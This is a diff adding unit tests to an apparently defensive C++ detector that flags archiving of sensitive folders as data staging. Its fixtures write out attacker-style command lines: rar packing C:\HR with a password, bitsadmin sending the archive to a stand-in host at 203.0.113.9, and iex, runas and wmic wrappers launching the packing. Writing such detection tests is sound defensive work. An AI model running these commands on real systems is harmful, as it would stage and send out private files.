@@ -308,5 +308,52 @@ TEST(PackingActs, AFolderOfStagingIsAPlaceItself) {
   EXPECT_EQ(severity_of(run.context->findings[0]), Severity::medium);
 }
 
+TEST(PackingActs, AJobOfBitsThatSendsWhatWasPackedBelongsToIt) {
+  const auto run = judge_winrar(
+      {process_fact(at(0), "C:\\PerfLogs\\rar.exe", "rar.exe a -hpx C:\\PerfLogs\\1.rar C:\\HR"),
+       process_fact(at(60), "C:\\Windows\\System32\\bitsadmin.exe",
+                    "bitsadmin /addfile j http://203.0.113.9/u C:\\PerfLogs\\1.rar")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("203.0.113.9/u"));
+  // What is fetched is not packed before.
+  const auto fetched = judge_winrar(
+      {process_fact(at(60), "C:\\PerfLogs\\rar.exe", "rar.exe a -hpx C:\\PerfLogs\\1.rar C:\\HR"),
+       process_fact(at(0), "C:\\Windows\\System32\\bitsadmin.exe",
+                    "bitsadmin /addfile j http://203.0.113.9/u C:\\PerfLogs\\1.rar")});
+  ASSERT_THAT(fetched.context->findings, SizeIs(1));
+  EXPECT_THAT(story_of(fetched.context->findings[0]), Not(HasSubstr("203.0.113.9/u")));
+}
+
+TEST(PackingActs, APartThatAnEndRecordStatesIsNotAPartThatIsGone) {
+  const auto of = [](const FactTexts& values) {
+    const auto run = judge_winrar(
+        {process_fact(at(0), "C:\\PerfLogs\\7z.exe", "7z.exe a -px C:\\PerfLogs\\1.zip C:\\HR"),
+         archive_fact(at(5), "C:\\PerfLogs\\1.zip", 1000, values)});
+    return run.context->findings.size() == 1 ? story_of(run.context->findings[0]) : std::string{};
+  };
+  const std::string stated = of({{"format", "zip"}, {"volume", "1"}, {"volume_number", "3"}});
+  EXPECT_THAT(stated, HasSubstr("Its end record states that it is part 3 of several, from 0; no "
+                                "trace of another part was seen."));
+  EXPECT_THAT(stated, Not(HasSubstr("missing")));
+  EXPECT_THAT(of({{"format", "zip"}}), Not(HasSubstr("states that it is part")));
+}
+
+TEST(PackingActs, PackingThatIsHandedToOthersToRun) {
+  for (const char* line :
+       {"iex \"rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR\"",
+        "Invoke-Expression 'rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR'",
+        "runas /user:CORP\\adm \"rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR\"",
+        "wmic process call create \"rar a -hpSecret9 C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR\""}) {
+    const auto run = judge_winrar({typed(at(0), line)});
+    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
+    EXPECT_GE(severity_of(run.context->findings[0]), Severity::medium) << line;
+    EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("Secret9"))) << line;
+    EXPECT_THAT(all_of(run.context->findings[0]), HasSubstr("1.rar")) << line;
+  }
+  for (const char* line : {"iex \"rar x C:\\PerfLogs\\1.rar\"", "runas /user:adm \"notepad a.rar\"",
+                           "wmic process where name='rar.exe' call terminate"})
+    EXPECT_THAT(judge_winrar({typed(at(0), line)}).context->findings, IsEmpty()) << line;
+}
+
 }  // namespace
 }  // namespace hozen
